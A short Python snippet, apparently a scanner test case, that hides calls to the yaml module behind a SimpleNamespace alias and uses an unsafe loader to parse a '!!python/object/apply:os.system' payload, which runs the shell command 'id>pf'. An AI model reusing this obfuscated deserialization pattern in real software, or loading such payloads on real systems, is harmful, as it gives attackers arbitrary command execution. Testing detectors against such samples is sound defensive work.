from types import SimpleNamespace as my_NS
import yaml

class Mine(my_NS(a=yaml).a.constructor.UnsafeConstructor, my_NS(a=yaml).a.SafeLoader):
    pass

class L(my_NS(a=yaml).a.UnsafeLoader):
    pass
my_NS(a=yaml).a.load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
